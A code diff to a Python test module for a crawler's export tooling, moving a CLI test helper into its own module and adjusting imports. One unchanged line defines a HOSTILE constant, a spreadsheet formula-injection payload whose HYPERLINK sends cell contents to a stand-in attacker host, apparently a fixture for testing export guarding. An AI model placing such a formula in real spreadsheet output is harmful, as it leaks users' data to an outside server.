@@ -12,27 +12,22 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from click.testing import CliRunner, Result
 from hypothesis import given
 from hypothesis import strategies as st
 from sqlalchemy import func, select
 
 from crawler.analysts.export import COLUMNS
 from crawler.analysts.tables import guarded
-from crawler.cli import main
 from crawler.config import Config
 from crawler.run import SHANGHAI, shanghai_day
 from models.articles import Article
 from models.store import Store
 from scripts.airflow_home import CHECKOUT
+from tests.command import dibao
 from tests.corpus.sample import Night, Rows, fill, write_night, write_text
 
 DAY = date(2026, 6, 15)
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"看")'
-
-
-def dibao(*words: str) -> Result:
-    return CliRunner().invoke(main, words)
 
 
 def as_rows(output: bytes) -> list[dict[str, str]]:
